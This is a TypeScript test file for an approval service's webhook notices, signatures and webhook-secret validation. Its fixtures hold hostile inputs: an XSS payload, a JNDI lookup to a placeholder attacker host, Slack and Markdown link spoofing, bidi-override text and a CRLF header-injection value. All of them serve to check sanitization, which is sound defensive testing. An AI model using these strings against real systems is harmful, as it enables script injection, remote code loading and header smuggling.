import { beforeAll, describe, expect, it } from 'vitest'
import { type Notice, noticeOf } from '../../../lib/model/notice.ts'
import { subjectOf, textOf } from '../../../lib/model/notice-text.ts'
import { tellingOf } from '../../../lib/model/telling.ts'
import { webhookSecret, webhookShapes } from '../../../lib/model/webhook.ts'
import { payloadOf } from '../../../lib/model/webhook-shapes.ts'
import { signatureOf } from '../../../lib/model/webhook-signature.ts'
import { csrFor, makeFurnishedWorld } from '../../support/world.ts'

const url = 'https://countersign.example.com'

/** What somebody could write into a reason or a name to make others see, click or be called something else. */
const hostile = [
  'line\nfeed and \u0000 control',
  '\u202edecnalab ylno si siht\u202c',
  'zero\u200bwidth\u2066isolate\u2069',
  '<!channel> <@U123> <https://evil.example|the approval>',
  '[approve here](https://evil.example) **bold** `code`',
  'https://evil.example/approve?token=1',
  '</script><img src=x onerror=alert(1)>',
  '{{webhookData}} #{jndi:ldap://evil.example}',
  'x'.repeat(2000),
]

const noticeFor = async (reason: string): Promise<Notice> => {
  const world = await makeFurnishedWorld()
  const { job_id } = await world.ask({ reason, owner: `The owner ${reason}`.slice(0, 250).trim() })
  const file = await world.jobOf(job_id)
  const event = file.events.find(({ type }) => type === 'approval_requested')
  const telling = tellingOf('approval_requested')
  if (event === undefined || telling === null) throw new Error('nothing was requested')
  return noticeOf({ event, telling, file, certificate: null, people: Object.values(world.people), url })
}

/** Every text in a JSON document. */
const textsIn = (value: unknown): readonly string[] => {
  if (typeof value === 'string') return [value]
  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(textsIn) : []
}

// biome-ignore lint/suspicious/noExplicitAny: a payload is what it is; the assertions say what it must be
const payloadIn = (shape: (typeof webhookShapes)[number], notice: Notice): any =>
  JSON.parse(payloadOf(shape, notice))

describe('text from outside', () => {
  const notices: Notice[] = []
  beforeAll(async () => {
    for (const text of hostile) notices.push(await noticeFor(text))
  })

  const cases = webhookShapes.flatMap((shape) =>
    hostile.map((text, n) => [shape, n, text.slice(0, 30)] as const),
  )

  it.each(cases)('in the shape %s is harmless (%d: %j)', (shape, n) => {
    const notice = notices[n]
    if (notice === undefined) throw new Error('no notice')
    for (const text of textsIn(payloadIn(shape, notice))) {
      expect(text).not.toMatch(/[\p{Cf}\p{Zl}\p{Zp}]|[^\P{Cc}\n]/u)
      const links = text.match(/[a-z]+:\/\/[^ |>\n]*/g) ?? []
      for (const link of links)
        expect(link).toMatch(
          /^(https:\/\/countersign\.example\.com\/api\/v1\/approvals\/ar-|http:\/\/adaptivecards\.io\/)/,
        )
    }
  })

  it('is no markup to Slack: only plain text holds it, and the fallback has no angle brackets', () => {
    for (const notice of notices) {
      const { text, blocks } = payloadIn('slack', notice)
      expect(text).not.toMatch(/[<>&]/)
      const markup = textsIn(
        blocks.filter((block: { text?: { type: string } }) => block.text?.type === 'mrkdwn'),
      )
      expect(markup.filter((one) => one.includes('<'))).toEqual([
        `<${notice.link}|Open> (it decides nothing)`,
      ])
    }
  })

  it('is no Markdown to Teams: it is in text runs, and the one TextBlock holds our own title', () => {
    for (const notice of notices) {
      const { body } = payloadIn('teams', notice).attachments[0].content
      const blocks = body.filter(({ type }: { type: string }) => type === 'TextBlock')
      expect(blocks.map(({ text }: { text: string }) => text)).toEqual(['Approval requested'])
    }
  })

  it('is not longer than its receiver takes', () => {
    for (const notice of notices) {
      const { blocks } = payloadIn('slack', notice)
      for (const { text } of blocks.slice(0, 2)) expect(text.text.length).toBeLessThanOrEqual(3000)
      expect(payloadIn('servicenow', notice).short_description.length).toBeLessThanOrEqual(160)
      expect(payloadIn('jira', notice).fields.summary.length).toBeLessThanOrEqual(255)
      expect(Buffer.byteLength(payloadOf('teams', notice))).toBeLessThan(28_000)
    }
  })

  it('in the subject of an e-mail is a line of printable ASCII', () => {
    for (const title of ['Ünïcode', 'two\nlines', 'x'.repeat(300)])
      expect(subjectOf({ ...(notices[0] as Notice), title })).toMatch(/^Countersign: [\x20-\x7e]{1,86}$/)
  })

  it('keeps what people read to one line each', () => {
    for (const notice of notices) expect(textOf(notice).split('\n').length).toBeLessThanOrEqual(21)
  })
})

describe('each shape', () => {
  it.each(webhookShapes)(
    '%s leads to the approval, and holds neither a credential nor a receipt',
    async (shape) => {
      const notice = await noticeFor('routine')
      const text = payloadOf(shape, notice)
      expect(text).toContain(`${url}/api/v1/approvals/${notice.approval_id}`)
      expect(text).not.toMatch(/cs_|receipt|token|BEGIN|@example\.com/)
    },
  )

  it('servicenow is a change request that all of one job are correlated by', async () => {
    const notice = await noticeFor('routine')
    expect(payloadIn('servicenow', { ...notice, ticket: 'CHG0030001' })).toMatchObject({
      type: 'normal',
      urgency: '2',
      correlation_id: notice.job_id,
      correlation_display: 'Countersign',
      ticket: 'CHG0030001',
      notice: { id: notice.id },
    })
    expect(payloadIn('servicenow', notice).ticket).toBeNull()
  })

  it('jira names the issue of the ticket, and none where there is none', async () => {
    const notice = await noticeFor('routine')
    expect(payloadIn('jira', { ...notice, ticket: 'SECOPS-1' })).toMatchObject({
      issues: ['SECOPS-1'],
      ticket: 'SECOPS-1',
      correlation_id: notice.job_id,
      fields: { labels: ['countersign', 'approval_requested'] },
    })
    expect(payloadIn('jira', notice)).toMatchObject({ issues: [], ticket: null })
  })

  it('json is the notice itself', async () => {
    const notice = await noticeFor('routine')
    expect(payloadIn('json', notice)).toEqual(notice)
  })

  it('has no more than a hundred people in it', async () => {
    const world = await makeFurnishedWorld()
    const { job_id } = await world.ask()
    const file = await world.jobOf(job_id)
    const telling = tellingOf('approval_requested')
    const people = Array.from({ length: 300 }, (_, n) => ({
      ...world.people.bob,
      id: `pr-b${n}`,
      name: `bob ${n}`,
    }))
    const [event] = file.events
    if (event === undefined || telling === null) throw new Error('nothing was requested')
    expect(noticeOf({ event, telling, file, certificate: null, people, url }).concerned).toHaveLength(100)
  })
})

describe('names that a request asks for', () => {
  const noticeOfJob = async (job: object): Promise<Notice> => {
    const world = await makeFurnishedWorld()
    const { job_id } = await world.ask(job)
    const file = await world.jobOf(job_id)
    const [event] = file.events
    const telling = tellingOf('approval_requested')
    if (event === undefined || telling === null) throw new Error('nothing was requested')
    return noticeOf({ event, telling, file, certificate: null, people: [], url })
  }

  it('are shown as the approver sees them', async () => {
    const { summary, warnings } = await noticeOfJob({ csr: csrFor('www.example.com', 'api.example.com') })
    expect(summary).toContain('dns:www.example.com, dns:api.example.com')
    expect(warnings).toEqual([])
  })

  it('come with what an approver should look at twice', async () => {
    const notice = await noticeOfJob({ csr: csrFor('xn--80ak6aa92e.example.com') })
    expect(notice.warnings[0]).toContain('internationalized name')
    expect(textOf(notice)).toContain('Look twice: subject CN is an internationalized name')
  })
})

describe('a signature', () => {
  it('is the one that OpenSSL makes', () => {
    // HMAC-SHA256 over "1700000000.{}" under 32 times "k", by `openssl dgst -sha256 -hmac`
    const signed = { timestamp: 1_700_000_000, body: '{}' }
    expect(signatureOf('k'.repeat(32), signed)).toBe(
      '0b3b35525c10b3757ffa78df69037021fc3168d8390a51a4fcb4a8d56a25b557',
    )
  })

  it('is another for another key, body or time', () => {
    const key = 'k'.repeat(32)
    const one = signatureOf(key, { timestamp: 1, body: '{}' })
    for (const other of [
      signatureOf('l'.repeat(32), { timestamp: 1, body: '{}' }),
      signatureOf(key, { timestamp: 2, body: '{}' }),
      signatureOf(key, { timestamp: 1, body: '{ }' }),
    ])
      expect(other).not.toBe(one)
  })
})

describe('the secret of a webhook', () => {
  const good = { url: 'https://hooks.example.com/', hmac_key: 'k'.repeat(32) }

  it.each([
    ['without a URL', { hmac_key: good.hmac_key }],
    ['with a key that is short', { ...good, hmac_key: 'short' }],
    ['with a header that is ours', { ...good, headers: { 'countersign-signature': 'v1=0' } }],
    ['with a header that is the connection’s', { ...good, headers: { host: 'inside' } }],
    ['with a header of two lines', { ...good, headers: { authorization: 'a\r\nx-b: c' } }],
    ['with a field that nobody knows', { ...good, token: 'x' }],
  ])('%s is none', (_, secret) => {
    expect(webhookSecret.safeParse(secret).success).toBe(false)
  })

  it('may have headers that its receiver asks for', () => {
    const secret = { ...good, headers: { authorization: 'Basic eA==', 'x-automation-webhook-token': 'y' } }
    expect(webhookSecret.parse(secret)).toEqual(secret)
  })
})
